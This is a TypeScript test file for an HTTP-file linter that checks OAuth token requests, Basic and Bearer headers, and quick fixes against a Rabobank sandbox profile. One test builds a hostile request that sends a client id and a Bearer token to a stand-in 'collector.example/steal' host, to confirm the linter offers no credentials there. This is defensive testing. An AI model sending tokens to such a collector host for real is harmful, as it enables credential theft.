import * as assert from 'node:assert/strict';
import { basicCredentials } from '../../../../src/core/wire/basicAuthentication';
import { lintHttpFile } from '../../../../src/core/httpFile/httpFileDiagnostics';
import { HttpDiagnostic, TextEdit } from '../../../../src/core/httpFile/httpDiagnostic';
import { LintContext } from '../../../../src/core/httpFile/lintContext';
import { LineIndex } from '../../../../src/core/httpFile/lineIndex';
import { KnowledgeBase } from '../../../../src/core/knowledge/knowledgeBase';

const kb = KnowledgeBase.create();
const NOW = Date.UTC(2026, 10, 27, 8, 0, 0);
const profile = {
  id: 'rabo',
  name: 'Rabo sandbox',
  clientId: 'my-client',
  clientSecret: 'my secret',
  redirectUri: 'http://127.0.0.1:8765/cb',
  tokenEndpoint: 'https://oauth-sandbox.rabobank.nl/openapi/sandbox/oauth2/token',
  authorizationEndpoint: 'https://oauth-sandbox.rabobank.nl/openapi/sandbox/oauth2/authorize',
};
const ctx: LintContext = { now: NOW, profiles: [profile] };

function codes(text: string, lint: LintContext = ctx): string[] {
  return lintHttpFile(text, kb, lint).map((d) => d.code);
}

function only(text: string, code: string, lint: LintContext = ctx): HttpDiagnostic {
  const found = lintHttpFile(text, kb, lint).filter((d) => d.code === code);
  assert.equal(found.length, 1, `expected one ${code}, got ${codes(text, lint).join(', ')}`);
  return found[0];
}

/** Applies edits (non-overlapping) to the text, as an editor would. */
function apply(text: string, edits: readonly TextEdit[]): string {
  const lines = new LineIndex(text);
  const offset = (p: { line: number; character: number }) => lines.starts[p.line] + p.character;
  return [...edits]
    .sort((a, b) => offset(b.range.start) - offset(a.range.start))
    .reduce((t, e) => t.slice(0, offset(e.range.start)) + e.newText + t.slice(offset(e.range.end)), text);
}

const TOKEN =
  'POST https://oauth-sandbox.rabobank.nl/openapi/sandbox/oauth2/token\nContent-Type: application/x-www-form-urlencoded\n';

describe('request lints', () => {
  const table: [name: string, text: string, expected: string[]][] = [
    [
      'grant_type=code',
      `${TOKEN}Authorization: Basic my-client:my secret\n\ngrant_type=code&code=x`,
      ['lint.token.grant-type-code'],
    ],
    [
      'authorization_code without code',
      `${TOKEN}Authorization: Basic my-client:my secret\n\ngrant_type=authorization_code`,
      ['lint.token.grant-type-mismatch'],
    ],
    [
      'refresh_token with a code',
      `${TOKEN}Authorization: Basic my-client:my secret\n\ngrant_type=refresh_token&refresh_token=r&code=c`,
      ['lint.token.grant-type-mismatch'],
    ],
    [
      'client_secret in the body counts as authentication',
      `${TOKEN}\ngrant_type=refresh_token&refresh_token=r&client_id=a&client_secret=b`,
      [],
    ],
    [
      'Basic that decodes without a colon',
      `${TOKEN}Authorization: Basic ${Buffer.from('nocolon').toString('base64')}\n\ngrant_type=refresh_token&refresh_token=r`,
      ['lint.token.malformed-basic-auth'],
    ],
    [
      'a masked Basic header, as a response document shows it, is not read as written credentials',
      `${TOKEN}Authorization: Basic ••••••••\n\ngrant_type=refresh_token&refresh_token=r`,
      [],
    ],
    [
      'a Basic header masked by the log redaction is not read as written credentials either',
      `${TOKEN}Authorization: Basic «redacted»\n\ngrant_type=refresh_token&refresh_token=r`,
      [],
    ],
    [
      'REST Client plain Basic form',
      `${TOKEN}Authorization: Basic my-client:my secret\n\ngrant_type=refresh_token&refresh_token=r`,
      [],
    ],
    [
      'variables in every value',
      `${TOKEN}Authorization: Basic {{b}}\nDate: {{d}}\n\ngrant_type={{g}}&code={{c}}`,
      [],
    ],
    ['IMF-fixdate is fine', 'GET https://a.example/\nDate: Tue, 18 Sep 2018 09:51:01 GMT\n', []],
    [
      'an ISO date is not',
      'GET https://a.example/\nDate: 2018-09-18T09:51:01Z\n',
      ['lint.header.date-format'],
    ],
    [
      'a JWT that has not expired',
      'GET https://a.example/\nAuthorization: Bearer ' + jwt({ exp: NOW / 1000 + 60 }) + '\n',
      [],
    ],
    [
      'a JWT that has expired',
      'GET https://a.example/\nAuthorization: Bearer ' + jwt({ exp: NOW / 1000 - 60 }) + '\n',
      ['lint.bearer.expired-token'],
    ],
    ['an opaque bearer token', 'GET https://a.example/\nAuthorization: Bearer abc.def\n', []],
  ];
  for (const [name, text, expected] of table) {
    it(`${expected.length ? 'flags' : 'accepts'} ${name}`, () => {
      assert.deepEqual(codes(text), expected);
    });
  }

  it('offers authorization_code for grant_type=code', () => {
    const text = `${TOKEN}Authorization: Basic my-client:my secret\n\ngrant_type=code&code=x`;
    const d = only(text, 'lint.token.grant-type-code');
    assert.ok(apply(text, d.data.fixes[0].edits).endsWith('grant_type=authorization_code&code=x'));
  });

  it('after the grant_type=code fix, asks for the redirect_uri a Rabobank code exchange repeats, and adds it', () => {
    const text = `${TOKEN}Authorization: Basic my-client:my secret\n\ngrant_type=code&code=x`;
    const d = only(text, 'lint.token.grant-type-code');
    assert.deepEqual(
      d.data.fixes.map((f) => [f.title, f.isPreferred]),
      [
        ['Use grant_type=authorization_code', true],
        ['Use grant_type=authorization_code and add redirect_uri', false],
      ],
    );
    // The preferred fix changes the value only; the next lint names what is still missing.
    const fixed = apply(text, d.data.fixes[0].edits);
    assert.ok(fixed.endsWith('grant_type=authorization_code&code=x'), fixed);
    const next = only(fixed, 'lint.token.missing-redirect-uri');
    assert.equal(next.severity, 'warning');
    assert.deepEqual(codes(fixed), ['lint.token.missing-redirect-uri']);
    // The profile registers the redirect URI: its (public) value goes in, form-encoded, and nothing else is left.
    const complete = apply(fixed, next.data.fixes[0].edits);
    assert.ok(complete.endsWith('code=x&redirect_uri=http%3A%2F%2F127.0.0.1%3A8765%2Fcb'), complete);
    assert.deepEqual(codes(complete), []);
    assert.equal(apply(text, d.data.fixes[1].edits), complete);
    // Without a profile, a variable the user defines; the secret never appears.
    const bare = { now: NOW, profiles: [] };
    const unmatched = only(fixed, 'lint.token.missing-redirect-uri', bare);
    const withVariable = apply(fixed, unmatched.data.fixes[0].edits);
    assert.ok(withVariable.endsWith('code=x&redirect_uri={{redirectUri}}'), withVariable);
    assert.ok(
      !withVariable.includes('my-secret') && !complete.includes(basicCredentials('my-client', 'my secret')),
    );
  });

  it('leaves a code exchange without redirect_uri alone at other servers, and offers only the grant fix there', () => {
    const text =
      'POST https://auth.example.com/oauth2/token\nContent-Type: application/x-www-form-urlencoded\n' +
      'Authorization: Basic {{basic}}\n\ngrant_type=code&code=x';
    const d = only(text, 'lint.token.grant-type-code');
    assert.equal(d.data.fixes.length, 1);
    assert.deepEqual(codes(apply(text, d.data.fixes[0].edits)), []);
  });

  it('adds Authorization: Basic from the profile whose token endpoint it is, as a variable, never the secret', () => {
    const text = `${TOKEN}\ngrant_type=refresh_token&refresh_token=r`;
    const d = only(text, 'lint.token.missing-client-auth');
    assert.equal(d.data.profileName, 'Rabo sandbox');
    const fix = d.data.fixes[0];
    assert.equal(fix.isPreferred, false);
    const fixed = apply(text, fix.edits);
    assert.ok(fixed.includes('urlencoded\nAuthorization: Basic {{$auth.basic("rabo")}}\n\n'), fixed);
    assert.ok(!fixed.includes(basicCredentials('my-client', 'my secret')) && !fixed.includes('my secret'));
    assert.deepEqual(codes(fixed), []);
  });

  it('offers no credentials to a hostile request that posts the victim’s client id elsewhere', () => {
    const expired = jwt({ client_id: 'my-client', azp: 'my-client', aud: 'my-client', exp: 1 });
    const text = [
      'POST https://collector.example/openapi/sandbox/oauth2/token',
      'Content-Type: application/x-www-form-urlencoded',
      `Authorization: Basic ${Buffer.from('my-client:wrong').toString('base64')}`,
      '',
      'grant_type=refresh_token&refresh_token=r&client_id=my-client',
      '',
      '###',
      'GET https://collector.example/steal',
      `Authorization: Bearer ${expired}`,
      '',
    ].join('\n');
    const lint: LintContext = { ...ctx, freshTokenProfile: () => 'rabo' };
    const found = lintHttpFile(text, kb, lint);
    assert.deepEqual(
      found.flatMap((d) => d.data.fixes).map((f) => f.title),
      [],
      'neither the Basic fix nor a fresh token is offered for another host',
    );
    assert.ok(!found.some((d) => d.code === 'lint.token.basic-auth-profile-mismatch'));
  });

  it('adds a Basic header with variables when no profile matches', () => {
    const text =
      'POST https://auth.example.com/token\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\ngrant_type=refresh_token&refresh_token=r';
    const d = only(text, 'lint.token.missing-client-auth', { profiles: [] });
    assert.ok(
      apply(text, d.data.fixes[0].edits).includes(
        'urlencoded\r\nAuthorization: Basic {{client_id}}:{{client_secret}}\r\n',
      ),
    );
  });

  it('flags a Basic header whose client id differs from the profile and offers the profile one', () => {
    const text = `${TOKEN}Authorization: Basic ${Buffer.from('other:secret').toString('base64')}\n\ngrant_type=refresh_token&refresh_token=r`;
    const d = only(text, 'lint.token.basic-auth-profile-mismatch');
    assert.equal(d.data.fixes[0].edits[0].newText, '{{$auth.basic("rabo")}}');
    assert.equal(d.data.fixes[0].isPreferred, false);
    assert.deepEqual(codes(apply(text, d.data.fixes[0].edits)), []);
  });

  it('asks for state on an authorization request and can add one', () => {
    const text =
      'GET https://oauth-sandbox.rabobank.nl/openapi/sandbox/oauth2/authorize?client_id=my-client&response_type=code\n';
    const d = only(text, 'lint.authorize.missing-state');
    assert.ok(apply(text, d.data.fixes[0].edits).includes('response_type=code&state={{$guid}}\n'));
  });

  it('compares redirect_uri with the profile and offers the registered one', () => {
    const text =
      'GET https://oauth-sandbox.rabobank.nl/openapi/sandbox/oauth2/authorize?client_id=my-client&response_type=code&state=s&redirect_uri=http%3A%2F%2Flocalhost%3A8765%2Fcb\n';
    const d = only(text, 'lint.authorize.redirect-uri-mismatch');
    assert.equal(d.severity, 'error');
    assert.deepEqual(codes(apply(text, d.data.fixes[0].edits)), []);
    assert.deepEqual(codes(text, { profiles: [] }), []);
  });

  it('uses what the token explorer knows: expiry, the profile holding a fresh token, and scopes', () => {
    const lint: LintContext = {
      now: NOW,
      profiles: [{ ...profile, apiHosts: ['api.rabobank.nl'] }],
      findToken: (t) =>
        t === 'opaque-old'
          ? { profileName: 'Rabo', expiresAt: NOW - 1, scopes: ['prs.paymentrequest.read-write'] }
          : undefined,
      freshTokenProfile: (t) => (t === 'opaque-old' ? 'rabo' : undefined),
    };
    const text =
      'GET https://api.rabobank.nl/openapi/payments/account-information/ais/accounts\nAuthorization: Bearer opaque-old\n';
    const expired = only(text, 'lint.bearer.expired-token', lint);
    assert.equal(expired.data.fixes[0].isPreferred, false);
    assert.ok(apply(text, expired.data.fixes[0].edits).includes('Bearer {{$auth.token("rabo")}}\n'));
    const elsewhere = text.replace('api.rabobank.nl', 'api.rabobank.nl.collector.example');
    assert.deepEqual(only(elsewhere, 'lint.bearer.expired-token', lint).data.fixes, []);
    const scope = only(text, 'lint.rabobank.missing-scope', lint);
    assert.deepEqual(scope.data.requiredScopes, [
      'ais.balances.read',
      'ais.transactions.read-90days',
      'ais.transactions.read-history',
    ]);
  });
});

describe('bearer tokens sent more than once', () => {
  it('judges each request by its own token, whether or not the lint decoded the same token before', () => {
    const old = jwt({ exp: NOW / 1000 - 60 });
    const fresh = jwt({ exp: NOW / 1000 + 60 });
    const block = (token: string) => `GET https://a.example/\nAuthorization: Bearer ${token}\n`;
    const text = [old, fresh, old, fresh, 'abc.def', old].map(block).join('\n###\n');
    const lines = lintHttpFile(text, kb, ctx)
      .filter((d) => d.code === 'lint.bearer.expired-token')
      .map((d) => d.range.start.line);
    assert.deepEqual(lines, [1, 9, 21]);
    // A second lint of another file knows nothing of the first one's tokens.
    assert.deepEqual(codes(block(fresh)), []);
    assert.deepEqual(codes(block(old)), ['lint.bearer.expired-token']);
  });
});

function jwt(claims: object): string {
  const part = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
  return `${part({ alg: 'none' })}.${part(claims)}.sig`;
}

describe('request lints stay out of other APIs', () => {
  it('leaves a JSON POST to a /token path alone', () => {
    const text =
      'POST https://payments.example.com/v1/cards/token\nContent-Type: application/json\n\n{"number": "4111"}\n';
    assert.deepEqual(codes(text, { profiles: [] }), []);
  });

  it('leaves a GET of a /token resource alone', () => {
    assert.deepEqual(codes('GET https://api.example.com/v1/token\n', { profiles: [] }), []);
  });

  it('still checks an empty POST to a token endpoint', () => {
    assert.deepEqual(codes('POST https://auth.example.com/oauth2/token\n', { profiles: [] }), [
      'lint.token.missing-grant-type',
      'lint.token.missing-client-auth',
    ]);
  });
});
